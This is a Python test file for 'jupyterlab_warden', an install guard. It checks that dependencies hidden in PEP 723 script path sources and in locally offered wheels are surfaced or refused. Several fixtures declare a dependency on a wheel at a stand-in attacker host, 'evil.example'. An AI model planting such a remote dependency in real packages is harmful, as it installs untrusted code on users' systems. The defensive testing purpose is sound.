"""Neighbours of red team 40b R40b-1 and R40b-2, read without a kernel.

R40b-1: a PEP 723 script's ``[tool.uv.sources]`` path source is placed in the script's folder
and opened by ``local_projects`` (a wheel's Requires-Dist, a project folder's dependencies);
a path source Warden cannot place is refused, never decided as the bare name.
R40b-2: every wheel a local find-links or index folder offers has its Requires-Dist decided;
a ``file:`` dependency there (which ``local_projects`` would not open) is refused.
"""

import zipfile
from pathlib import Path

from local_index import build_wheel

from jupyterlab_warden.kernel.guard.installs import arguments, local_projects, sources, toml_files
from jupyterlab_warden.kernel.guard.installs.request import InstallRequest, Source

EVIL = "https://evil.example/evil-1.0-py3-none-any.whl"


def _script_request(folder: Path, source: str, cwd: Path) -> InstallRequest:
    script = folder / "s.py"
    script.write_text(
        '# /// script\n# dependencies = ["proj"]\n# [tool.uv.sources]\n'
        f'# proj = {{ path = "{source}" }}\n# ///\n'
    )
    request = arguments.uv_request(["run", str(script)], str(cwd), {})
    local_projects.add(request, str(cwd), {})
    return request


def _texts(request: InstallRequest) -> list:
    return [r.text for r in request.requirements]


def test_a_script_path_source_wheel_is_read_from_the_script_s_folder(tmp_path):
    """The script lies in another folder than the working one: uv reads the path from the
    script's folder, and so does Warden."""
    build_wheel(tmp_path / "sub", "proj", body="", requires=f"Requires-Dist: evil @ {EVIL}\n")
    request = _script_request(tmp_path / "sub", "proj-1.0-py3-none-any.whl", tmp_path)
    assert f"evil @ {EVIL}" in _texts(request), _texts(request)


def test_a_script_path_source_project_folder_is_read(tmp_path):
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        f'[project]\nname = "proj"\nversion = "1"\ndependencies = ["evil @ {EVIL}"]\n'
    )
    request = _script_request(tmp_path, "proj", tmp_path)
    assert f"evil @ {EVIL}" in _texts(request), _texts(request)


def test_a_path_source_without_a_folder_is_refused():
    request = InstallRequest("uv", "uv run s.py")
    toml_files.add_uv_sources(request, {"sources": {"proj": {"path": "p.whl"}}}, "s.py")
    assert request.problems and "cannot place the path source" in request.problems[0]


def test_an_ordinary_script_path_source_adds_no_problem(tmp_path):
    build_wheel(tmp_path, "proj", body="", requires="Requires-Dist: numpy>=1\n")
    request = _script_request(tmp_path, "proj-1.0-py3-none-any.whl", tmp_path)
    assert request.problems == [] and "numpy>=1" in _texts(request), request.problems


def _offered(tmp_path: Path, requires: str) -> InstallRequest:
    build_wheel(tmp_path / "w", "proj", body="", requires=requires)
    request = InstallRequest("pip", "pip install proj")
    request.sources.append(Source("./w", "find-links", "command line"))
    sources.read_local_pages(request, str(tmp_path))
    return request


def test_an_offered_wheel_s_dependencies_are_decided(tmp_path):
    request = _offered(tmp_path, f"Requires-Dist: evil @ {EVIL}\nRequires-Dist: other\n")
    assert f"evil @ {EVIL}" in _texts(request) and "other" in _texts(request), _texts(request)
    assert request.problems == []


def test_an_offered_wheel_s_local_file_dependency_is_refused(tmp_path):
    request = _offered(tmp_path, f"Requires-Dist: evil @ {(tmp_path / 'e.whl').as_uri()}\n")
    assert request.problems and "local file dependency" in request.problems[0], request.problems


def test_an_offered_wheel_without_metadata_is_refused(tmp_path):
    (tmp_path / "w").mkdir()
    with zipfile.ZipFile(tmp_path / "w" / "proj-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("proj_mod/__init__.py", "")
    request = InstallRequest("pip", "pip install proj")
    request.sources.append(Source("./w", "find-links", "command line"))
    sources.read_local_pages(request, str(tmp_path))
    assert request.problems and "METADATA" in request.problems[0], request.problems
